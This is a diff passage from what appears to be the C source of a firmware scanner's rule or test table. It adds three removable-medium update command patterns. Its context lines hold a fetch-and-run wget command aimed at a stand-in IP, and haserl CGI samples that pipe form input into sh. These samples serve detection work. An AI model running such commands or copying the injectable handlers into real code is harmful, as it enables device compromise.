@@ -112,6 +112,9 @@ static const struct {
 	{ "mount /dev/$1 /media/x$1; tar xzf /media/x$1/u.tgz -C /tmp/u; cd /tmp/u; ./update.sh", "fw.removable-medium", SEV_MEDIUM, true },
 	{ "mount /dev/$1 /media/x$1; tar xzf /media/x$1/u.tgz -C /tmp/u; cd /opt/u; ./update.sh", "fw.removable-medium", -1, true },
 	{ "wget -O /tmp/u.tar http://203.0.113.5/u; tar -C /program -xf /tmp/u.tar; sh /program/post.sh", "fw.script-fetch", SEV_HIGH, false },
+	{ "/opt/bin/update /tmp/mmc/fw.bin /dev/mtd4", "fw.removable-medium", SEV_LOW, true },
+	{ "firmware_update.start /mnt/usb/auto.bin >> /tmp/log 2>&1", "fw.removable-medium", SEV_LOW, true },
+	{ "play /mnt/usb/a.wav; update_clock now > /mnt/usb/log; ls /mnt/usb/x; upgrade /var/fw.bin", "fw.removable-medium", -1, true },
 	/* what a request says is run */
 	{ "#!/usr/bin/haserl\n<p>$x; sh it's</p>\n<% echo \"$FORM_script\" | tr -d x | sh %>\n", "fw.command-injection", SEV_HIGH, false },
 	{ "#!/usr/bin/haserl\n<? if [ -n \"$FORM_c\" ]; then ?><b>\n<? printf '%s' \"$FORM_c\" | tr -d x > /tmp/t\nsh /tmp/t\nfi ?>",
